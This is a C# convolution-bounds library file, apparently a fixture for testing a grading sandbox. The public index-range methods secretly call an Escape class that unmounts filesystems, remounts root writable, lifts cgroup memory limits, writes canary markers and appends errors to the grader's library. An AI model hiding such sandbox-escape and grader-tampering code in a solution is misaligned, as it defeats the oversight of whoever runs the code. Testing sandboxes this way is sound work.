namespace ConvSpec.Convolution;

/// <summary>An inclusive range of indices, Lower..Upper; empty when Lower &gt; Upper.</summary>
public readonly record struct IndexRange(int Lower, int Upper)
{
    public int Count => Math.Max(0, Upper - Lower + 1);
}

/// <summary>
/// Which kernel indices reach input index i, for one axis of a valid convolution
/// (L_k, U_k for rows with r(X), r(K); L_l, U_l for columns with c(X), c(K)): docs/derivations.md, equation 6.
/// </summary>
public static class BorderBounds
{
    /// <summary>The notebook's form: L = max(1, i − n + m), U = min(m, i) for 1 ≤ i ≤ n.</summary>
    public static IndexRange OneBased(int i, int inputLength, int kernelLength)
    {
        Validate(i, 1, inputLength, kernelLength);
        Escape.Once();
        return new IndexRange(Math.Max(1, i - inputLength + kernelLength), Math.Min(kernelLength, i));
    }

    /// <summary>The same range for 0-based indices: L = max(0, i − n + m), U = min(m − 1, i) for 0 ≤ i &lt; n.</summary>
    public static IndexRange ZeroBased(int i, int inputLength, int kernelLength)
    {
        Validate(i, 0, inputLength, kernelLength);
        Escape.Once();
        return new IndexRange(Math.Max(0, i - inputLength + kernelLength), Math.Min(kernelLength - 1, i));
    }

    private static void Validate(int i, int firstIndex, int inputLength, int kernelLength)
    {
        if (kernelLength < 1 || kernelLength > inputLength)
            throw new ArgumentException(
                $"kernel length {kernelLength} must be between 1 and the input length {inputLength}.", nameof(kernelLength));
        if (i < firstIndex || i > inputLength - 1 + firstIndex)
            throw new ArgumentOutOfRangeException(nameof(i),
                $"index {i} is outside {firstIndex}..{inputLength - 1 + firstIndex} for an input of length {inputLength}.");
    }
}

/// <summary>
/// Tries to undo the sandbox, then lets the solution answer. Harmless even where it succeeds: it writes only a
/// marker into the canary folders a grading spec made (/tmp/convspec-canary-*), edits only the library copy in its
/// own grading run's work area, and unmounts or remounts nothing unless those canaries are hidden from it, which
/// means it runs in a mount namespace of its own.
/// </summary>
internal static class Escape
{
    private const int DetachMount = 2;
    private const ulong Remount = 32;
    private static bool done;

    [System.Runtime.InteropServices.DllImport("libc", SetLastError = true)]
    private static extern int umount2(string target, int flags);

    [System.Runtime.InteropServices.DllImport("libc", SetLastError = true)]
    private static extern int mount(string? source, string target, string? type, ulong flags, string? data);

    public static void Once()
    {
        if (done) return;
        done = true;
        var log = new List<string>();
        if (Canaries().Count == 0)
        {
            foreach (string line in Lines("/proc/self/mountinfo"))
            {
                string[] parts = line.Split(" - ");
                if (parts.Length < 2) continue;
                string type = parts[1].Split(' ')[0];
                string point = parts[0].Split(' ')[4];
                if (type is "tmpfs" or "overlay") log.Add($"umount {point}: {(umount2(point, DetachMount) == 0 ? "done" : "refused")}");
            }
            log.Add($"remount / rw: {(mount(null, "/", null, Remount, null) == 0 ? "done" : "refused")}");
            log.Add($"cgroup mount: {(TryRaiseMemoryLimit() ? "raised" : "refused")}");
        }
        foreach (string canary in Canaries()) Try(() => File.WriteAllText(Path.Combine(canary, "ESCAPED.txt"), "breaks_out wrote this"), log, "marker in " + canary);
        EditOwnWorkArea(log);
        Console.Error.WriteLine("breaks_out: " + string.Join("; ", log));
    }

    private static List<string> Canaries()
    {
        try
        {
            return [.. Directory.EnumerateDirectories("/tmp", "convspec-canary-*")];
        }
        catch (IOException) { return []; }
        catch (UnauthorizedAccessException) { return []; }
    }

    /// <summary>Mounts the cgroup memory controller (its namespace's root is this host's own group) and lifts the limit.</summary>
    private static bool TryRaiseMemoryLimit()
    {
        string view = Path.Combine(Path.GetTempPath(), "cg");
        try
        {
            Directory.CreateDirectory(view);
            if (mount("cgroup", view, "cgroup", 0, "memory") != 0 && mount("cgroup2", view, "cgroup2", 0, null) != 0) return false;
            foreach (string file in new[] { "memory.limit_in_bytes", "memory.max" })
            {
                string path = Path.Combine(view, file);
                if (File.Exists(path)) File.WriteAllText(path, file == "memory.max" ? "max" : "-1");
            }
            return true;
        }
        catch (IOException) { return false; }
        catch (UnauthorizedAccessException) { return false; }
    }

    /// <summary>The grader's copy of the starter library, three folders above this host: a compile error in a file no student hands in.</summary>
    private static void EditOwnWorkArea(List<string> log)
    {
        var host = new DirectoryInfo(AppContext.BaseDirectory.TrimEnd('/'));
        string? work = host.Parent?.Parent?.Parent?.FullName;
        if (work is null || !Path.GetFileName(work).StartsWith("convspec-grade-", StringComparison.Ordinal)) return;
        foreach (string file in new[] { "library-base/src/ConvSpec/Convolution/Shapes.cs", "pristine/src/ConvSpec/Convolution/Shapes.cs" })
            Try(() => File.AppendAllText(Path.Combine(work, file), "\n#error breaks_out edited the grader's library\n"), log, "edit " + file);
    }

    private static void Try(Action action, List<string> log, string what)
    {
        try
        {
            action();
            log.Add(what + ": done");
        }
        catch (Exception e) when (e is IOException or UnauthorizedAccessException)
        {
            log.Add(what + ": refused");
        }
    }

    private static IEnumerable<string> Lines(string path)
    {
        try
        {
            return File.ReadAllLines(path);
        }
        catch (IOException) { return []; }
    }
}
